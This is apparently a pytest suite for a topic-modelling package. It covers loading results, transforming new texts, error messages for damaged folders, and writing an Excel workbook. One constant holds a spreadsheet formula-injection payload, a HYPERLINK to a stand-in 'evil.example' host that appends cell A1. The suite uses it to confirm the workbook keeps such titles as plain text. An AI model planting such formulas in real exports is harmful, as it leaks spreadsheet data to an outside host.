"""Results outside the report: papertopics.load in a notebook (docs/notebook.ipynb), topics.xlsx."""

from __future__ import annotations

import json
import logging
import subprocess
import sys
from pathlib import Path

import nbformat
import numpy as np
import openpyxl
import pandas as pd
import pytest

import papertopics
from papertopics.report.workbook import EXCEL_MAX_CELL, read_tables, workbook_sheets, write_workbook
from papertopics.results import ResultsError

REPO = Path(__file__).resolve().parents[1]
NOTEBOOK = REPO / "docs" / "notebook.ipynb"
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click me")'


def _tables(folder: Path) -> Path:
    """A tiny results folder: titles that pandas' defaults would turn into NaN."""
    topics = folder / "results" / "topics"
    topics.mkdir(parents=True)
    (topics / "topics.csv").write_text(
        "topic,model_topic,label,size,top_terms,representative_doc_ids,cohesion,region,region_label\n"
        "-1,-1,Outliers (no topic),1,,,,-1,\n"
        "3,0,NA,2,na; null,a;b,0.25,0,NA\n",
        encoding="utf-8",
    )
    (topics / "document_topics.csv").write_text(
        "doc_id,listings,topic,topic_label,title,text,url,assignment,confidence\n"
        f'a,x,3,NA,NA,First abstract.,,core,1.0\nb,x,3,NA,null,"Form\x0cfeed, in text.",,nearest,0.5\n'
        f'c,x,-1,Outliers (no topic),"{HOSTILE_TITLE.replace(chr(34), chr(34) * 2)}",Third.,u,outlier,0.01\n',
        encoding="utf-8",
    )
    return folder


def test_load_reads_text_as_text_and_numbers_as_numbers(tmp_path):
    results = papertopics.load(_tables(tmp_path))
    docs = results.documents
    assert docs["title"].tolist() == ["NA", "null", HOSTILE_TITLE]
    assert docs["url"].tolist() == ["", "", "u"]  # an empty cell is "", never NaN
    assert docs["topic"].tolist() == [3, 3, -1] and docs["confidence"].tolist() == [1.0, 0.5, 0.01]
    assert docs["name"].tolist() == ["NA", "NA", "Outliers (no topic)"]
    topics = results.topics
    assert topics["name"].tolist() == ["Outliers (no topic)", "NA"]
    assert topics["terms"].tolist() == [[], ["na", "null"]]
    assert topics["share"].tolist() == pytest.approx([1 / 3, 2 / 3])
    assert results.topic_of_model == {-1: -1, 0: 3}
    with pytest.raises(ResultsError, match="no results/topics/topics.csv; run `papertopics run"):
        papertopics.load(tmp_path / "elsewhere")


# --- transform says outlier where the pipeline would (issue 45, case 4) ------------------------


def _with_vectors(folder: Path, model) -> Path:
    """The run's document embeddings and the clustering's assignment threshold beside _tables."""
    documents = pd.read_csv(folder / "results/topics/document_topics.csv", keep_default_na=False)
    # one text a call, as transform embeds one abstract below: the same shapes, the same bits
    vectors = np.vstack([model.encode([text]) for text in documents["text"].tolist()])
    (folder / "results/embed").mkdir(parents=True)
    pd.DataFrame(
        {"doc_id": documents["doc_id"], "vector": [list(map(float, v)) for v in vectors]}
    ).to_parquet(folder / "results/embed/embeddings.parquet")
    (folder / "results/cluster").mkdir(parents=True)
    (folder / "results/cluster/params.json").write_text('{"assign_min_confidence": 0.05}')
    return folder


def test_transform_says_outlier_where_the_pipeline_would(tmp_path, monkeypatch):
    results = papertopics.load(_tables(tmp_path))
    empty = results.transform([])
    assert len(empty) == 0 and list(empty.columns)[:3] == ["text", "topic", "name"]

    def no_model():
        raise AssertionError("text without a word is never embedded")

    monkeypatch.setattr(results, "embedding_model", no_model)
    nothing = results.transform(["", "   ", None, "the", "The of and."])
    assert nothing["topic"].tolist() == [-1] * 5
    assert set(nothing["assignment"]) == {"outlier"} and set(nothing["name"]) == {"Outliers (no topic)"}
    assert nothing["model_topic"].tolist() == [-1] * 5
    monkeypatch.undo()

    model = results.embedding_model()
    _with_vectors(tmp_path, model)
    results = papertopics.load(tmp_path)
    monkeypatch.setattr(results, "embedding_model", lambda: model)
    answer = pd.concat(
        [results.transform([text]) for text in ("First abstract.", "x" * 10_000)], ignore_index=True
    )
    # the core member's own text is as central as the topic's most central member: its topic;
    # 10,000 x's are farther than every core member (the pipeline's 5 % rule): an outlier
    assert answer["topic"].tolist() == [3, -1]
    assert answer["assignment"].tolist() == ["nearest", "outlier"]
    assert answer["confidence"].iloc[0] == pytest.approx(1.0) and answer["confidence"].iloc[1] < 0.05
    assert answer["similarity"].iloc[0] == pytest.approx(1.0, abs=1e-3)
    assert answer["name"].tolist() == ["NA", "Outliers (no topic)"] and answer["model_topic"].tolist() == [
        0,
        -1,
    ]
    # the run kept every outlier as one (no threshold): the rule at its default, not "never"
    (tmp_path / "results/cluster/params.json").write_text('{"assign_min_confidence": null}')
    assert papertopics.load(tmp_path)._min_confidence() == 0.05


# --- load never mixes two runs and says what is wrong in one line (cases 5 and 8) -------------


def test_a_truncated_or_mismatched_table_is_an_error_not_a_smaller_table(tmp_path):
    folder = _tables(tmp_path)
    topics = folder / "results/topics/topics.csv"
    text = topics.read_text(encoding="utf-8")
    topics.write_text(text[: len(text) - 9], encoding="utf-8")  # cut mid-line
    with pytest.raises(ResultsError, match=r"topics.csv: cut short \(its last line is incomplete\)"):
        _ = papertopics.load(folder).topics
    topics.write_text(text.split("\n", 2)[0] + "\n" + text.split("\n", 2)[1] + "\n", encoding="utf-8")
    with pytest.raises(
        ResultsError, match=r"topics.csv: 1 topics of 1 documents, but document_topics.csv has 3"
    ):
        _ = papertopics.load(folder).topics  # cut at a line's end: one row, caught by the counts
    topics.write_text(text, encoding="utf-8")
    metrics = folder / "results/metrics.json"
    metrics.write_text(json.dumps({"n_topics": 12, "n_documents": 3}))
    with pytest.raises(
        ResultsError, match=r"metrics.json says n_topics 12 but results/topics/topics.csv has 1"
    ):
        _ = papertopics.load(folder).metrics
    metrics.write_text('{"n_topics": 1, "n_docu')
    with pytest.raises(ResultsError, match=r"metrics.json: damaged \(.*\); rerun `papertopics run` there"):
        _ = papertopics.load(folder).metrics
    metrics.write_text(json.dumps({"n_topics": 1, "n_documents": 3}))
    assert papertopics.load(folder).metrics["n_topics"] == 1
    # a rerun finishing between two reads: the second read refuses rather than mix the runs
    results = papertopics.load(folder)
    assert len(results.documents) == 3
    documents = folder / "results/topics/document_topics.csv"
    documents.write_text(documents.read_text(encoding="utf-8").replace("First abstract.", "Rerun."))
    with pytest.raises(ResultsError, match=r"document_topics.csv: rewritten since this folder was loaded"):
        _ = results.topics
    assert len(papertopics.load(folder).topics) == 2  # loaded again: one run's tables


def test_load_while_a_run_works_in_the_folder_refuses(tmp_path):
    """A rerun replaces the tables one by one: reading them meanwhile would mix two runs."""
    folder = _tables(tmp_path)
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time; from papertopics.runtime.recovery import hold_folder; "
            "hold_folder(sys.argv[1]); print('held', flush=True); time.sleep(60)",
            str(folder),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(ResultsError, match=rf"^another run is working in {folder} \(pid {holder.pid}"):
            papertopics.load(folder)
        results = papertopics.results.Results(folder)  # loaded before the run started
        for table in ("topics", "documents", "metrics"):
            with pytest.raises(
                ResultsError, match=rf"^another run is working in {folder} \(pid {holder.pid}"
            ):
                getattr(results, table)
    finally:
        holder.kill()
        holder.wait()
    assert len(papertopics.load(folder).topics) == 2  # the run is over: it loads


def test_older_or_incomplete_folders_are_one_line(tmp_path):
    folder = _tables(tmp_path)
    with pytest.raises(
        ResultsError, match=r"results/topics/model: no saved model there; rerun `papertopics run`"
    ):
        papertopics.load(folder).model()
    topics = folder / "results/topics/topics.csv"
    older = pd.read_csv(topics, keep_default_na=False).drop(columns=["model_topic"])
    older.to_csv(topics, index=False)
    with pytest.raises(
        ResultsError, match=r"topics.csv: no model_topic column \(written by an older papertopics\)"
    ):
        _ = papertopics.load(folder).topic_of_model


def test_workbook_keeps_hostile_text_as_text_and_drops_illegal_characters(tmp_path):
    folder = _tables(tmp_path)
    sheets = workbook_sheets(
        *read_tables(folder / "results/topics/topics.csv", folder / "results/topics/document_topics.csv")
    )
    documents = sheets["documents"].copy()
    documents.loc[1, "title"] = "A title with a form feed \x0c and a bell \x07 inside"
    sheets["documents"] = documents
    path = tmp_path / "topics.xlsx"
    write_workbook(path, sheets)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["topics", "documents"]
    topics = [[c.value for c in row] for row in book["topics"].iter_rows()]
    assert topics[0] == ["id", "name", "size", "share", "terms", "cohesion", "region"]
    assert topics[2] == [3, "NA", 2, pytest.approx(2 / 3), "na, null", 0.25, "NA"]
    rows = list(book["documents"].iter_rows())
    assert [c.value for c in rows[0]] == [
        "title",
        "topic",
        "name",
        "assignment",
        "confidence",
        "url",
        "listings",
        "doc_id",
    ]
    hostile = rows[3][0]
    assert hostile.value == HOSTILE_TITLE and hostile.data_type == "s"  # text, not a formula
    assert rows[2][0].value == "A title with a form feed  and a bell  inside"
    assert rows[1][0].value == "NA" and rows[1][1].value == 3
    # no formula anywhere in the file itself
    import zipfile

    with zipfile.ZipFile(path) as archive:
        xml = "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml


def test_a_text_longer_than_an_excel_cell_is_cut_with_a_marker_and_a_warning(tmp_path, caplog):
    """An authors field of 57,778 characters (a thousand-author paper) must not end mid-name
    without a word: the cell says it was cut and how long the text is, the run warns."""
    folder = _tables(tmp_path)
    sheets = workbook_sheets(
        *read_tables(folder / "results/topics/topics.csv", folder / "results/topics/document_topics.csv")
    )
    documents = sheets["documents"].copy()
    authors = "; ".join(f"Author Number{i:05d}" for i in range(2_889))
    documents["authors"] = ["Ada Lovelace"] * len(documents)
    documents.loc[0, "authors"] = authors
    documents.loc[2, "title"] = "x" * EXCEL_MAX_CELL  # exactly the limit: whole, no marker
    sheets["documents"] = documents
    path = tmp_path / "topics.xlsx"
    with caplog.at_level(logging.WARNING, logger="papertopics"):
        cut = write_workbook(path, sheets)
    assert len(authors) == 57_778 and cut == {("documents", "authors"): [2]}
    rows = [[c.value for c in row] for row in openpyxl.load_workbook(path)["documents"].iter_rows()]
    column = rows[0].index("authors")
    cell = rows[1][column]
    assert len(cell) == EXCEL_MAX_CELL and cell.endswith(" … [truncated: 57,778 characters]")
    assert authors.startswith(cell.removesuffix(" … [truncated: 57,778 characters]"))
    assert rows[3][0] == "x" * EXCEL_MAX_CELL and rows[2][column] == "Ada Lovelace"
    (warning,) = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert warning.startswith(
        "topics.xlsx: 1 cell of sheet 'documents', column 'authors' (row 2) longer than Excel's "
        "32,767-character limit: cut, ending in ' … [truncated: N characters]'"
    )


def test_the_runs_workbook_has_its_topics_and_documents(seed_run):
    book = openpyxl.load_workbook(seed_run / "results/topics/topics.xlsx", read_only=True)
    topics = pd.read_csv(seed_run / "results/topics/topics.csv", keep_default_na=False)
    documents = pd.read_csv(seed_run / "results/topics/document_topics.csv", keep_default_na=False)
    rows = list(book["topics"].iter_rows(values_only=True))
    assert rows[0][:5] == ("id", "name", "size", "share", "terms")
    assert [r[0] for r in rows[1:]] == topics["topic"].tolist()
    assert [r[1] for r in rows[1:]] == topics["label"].tolist()
    assert sum(r[3] for r in rows[1:]) == pytest.approx(1.0)
    docs = list(book["documents"].iter_rows(values_only=True))
    assert len(docs) == len(documents) + 1
    assert [r[docs[0].index("doc_id")] for r in docs[1:]] == documents["doc_id"].tolist()


def test_saved_model_names_a_model_folder_a_loader_finds_offline(seed_run):
    config = json.loads((seed_run / "results/topics/model/config.json").read_text())
    folder = Path(config["embedding_model"])
    assert folder.is_absolute() and (folder / "modules.json").is_file()


def test_the_notebook_runs_on_a_finished_run(seed_run):
    """docs/notebook.ipynb's code cells, in order, with FOLDER set to the seed run."""
    notebook = nbformat.read(NOTEBOOK, as_version=4)
    cells = [c for c in notebook.cells if c.cell_type == "code"]
    assert "parameters" in cells[0].metadata.get("tags", [])
    namespace: dict = {"FOLDER": str(seed_run)}
    for i, cell in enumerate(cells[1:], 2):
        exec(compile(cell.source, f"notebook cell {i}", "exec"), namespace)
    results = namespace["results"]
    metrics = json.loads((seed_run / "results/metrics.json").read_text())
    assert len(results.topics.query("topic >= 0")) == metrics["n_topics"]
    assert len(results.documents) == metrics["n_documents"] == len(results.map)
    new = namespace["new"]
    assert len(new) == 2 and set(new["topic"]) <= set(results.topics["topic"]) | {-1}
    names = {**dict(zip(results.topics["topic"], results.topics["name"])), -1: "Outliers (no topic)"}
    assert new["name"].tolist() == [names[t] for t in new["topic"]]
    assert new["assignment"].tolist() == ["nearest" if t >= 0 else "outlier" for t in new["topic"]]
    # the model's own numbers map to topics.csv's ids
    assert set(results.topic_of_model.values()) == set(results.topics["topic"])
    words = namespace["model"].get_topic(namespace["model_topic"])
    assert words and all(isinstance(w, str) for w, _ in words)


def test_load_during_a_first_run_says_a_run_is_working(tmp_path):
    """Issue 51 row 18: no topics.csv yet, but a run is working: say so, not 'run papertopics'."""
    holder = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys, time; from papertopics.runtime.recovery import hold_folder; "
            "hold_folder(sys.argv[1]); print('held', flush=True); time.sleep(60)",
            str(tmp_path),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        assert holder.stdout.readline().strip() == "held"
        with pytest.raises(ResultsError) as error:
            papertopics.load(tmp_path)
        assert str(error.value).startswith(f"another run is working in {tmp_path} (pid {holder.pid}")
        assert "load them once it has finished" in str(error.value)
    finally:
        holder.kill()
        holder.wait()
    with pytest.raises(ResultsError, match="no results/topics/topics.csv; run `papertopics run"):
        papertopics.load(tmp_path)  # the run is over and wrote nothing: run one


def test_topic_sizes_that_disagree_with_the_documents_are_refused(tmp_path):
    """Issue 51 row 14: rows of document_topics.csv moved to another topic by hand."""
    folder = _tables(tmp_path)
    documents = folder / "results/topics/document_topics.csv"
    # document b moves from topic 3 to the outliers: 1 + 2 documents still, but 2 vs 1 each
    documents.write_text(
        documents.read_text(encoding="utf-8").replace("b,x,3,NA,null", "b,x,-1,NA,null"), encoding="utf-8"
    )
    with pytest.raises(ResultsError) as error:
        _ = papertopics.load(folder).topics
    message = str(error.value)
    assert "topics.csv: topic -1 has size 1, but document_topics.csv gives it 2 documents" in message, message
    assert "\n" not in message


def test_transform_gives_a_pinned_paper_its_pinned_topic(tmp_path, monkeypatch):
    """Issue 51 row 4: the pinned topics' own papers came back as outliers (confidence 0), though
    the run pinned them: transform applies the run's pin rule first, as the run did."""
    import numpy as np

    from papertopics.artifacts import save_embeddings
    from papertopics.vectors import normalise

    texts = ["Alpha one.", "Alpha two.", "Alpha three.", "Graphs one.", "Graphs two.", "Graphs far."]
    vectors = normalise(
        np.array(
            [
                [1, -0.3, 0, 0.1],
                [1, -0.3, 0.1, 0],
                [1, -0.3, 0, -0.1],
                [0, 1, 0, 0],
                [0.1, 1, 0.1, 0],
                [1, 0.45, 0, 0],
            ],
            dtype=np.float32,
        )
    )
    topics = tmp_path / "results" / "topics"
    topics.mkdir(parents=True)
    (topics / "topics.csv").write_text(
        "topic,model_topic,label,size,top_terms,representative_doc_ids,cohesion,region,region_label,pinned\n"
        "0,0,alpha,3,alpha,a0,0.9,0,alpha,\n"
        "1,1,graphs,3,graphs,a3,0.5,1,graphs,graphs\n",
        encoding="utf-8",
    )
    rows = "".join(
        f"a{i},x,{i // 3},{'alpha' if i < 3 else 'graphs'},t{i},{text},,core,1.0\n"
        for i, text in enumerate(texts)
    )
    (topics / "document_topics.csv").write_text(
        "doc_id,listings,topic,topic_label,title,text,url,assignment,confidence\n" + rows, encoding="utf-8"
    )
    (tmp_path / "results/embed").mkdir(parents=True)
    save_embeddings(tmp_path / "results/embed/embeddings.parquet", [f"a{i}" for i in range(6)], vectors)
    (tmp_path / "results/cluster").mkdir(parents=True)
    save_embeddings(
        tmp_path / "results/cluster/pinned_topics.parquet", ["graphs"], np.eye(1, 4, 1, dtype=np.float32)
    )
    (tmp_path / "results/cluster/params.json").write_text(
        json.dumps(
            {
                "assign_min_confidence": 0.05,
                "pinned": {"min_similarity": 0.3, "topics": {"graphs": {"documents": 3, "threshold": 0.3}}},
            }
        )
    )
    by_text = dict(zip(texts, vectors))

    class Model:
        def encode(self, batch):
            return np.array([by_text[text] for text in batch])

    results = papertopics.load(tmp_path)
    monkeypatch.setattr(results, "embedding_model", Model)
    answer = results.transform(texts)
    assert answer["topic"].tolist() == [0, 0, 0, 1, 1, 1]  # "Graphs far." sits nearer alpha's centroid
    assert answer["assignment"].tolist()[3:] == ["pinned"] * 3
    assert answer["name"].tolist()[5] == "graphs" and answer["confidence"].iloc[5] == pytest.approx(
        0.4956, abs=1e-3
    )
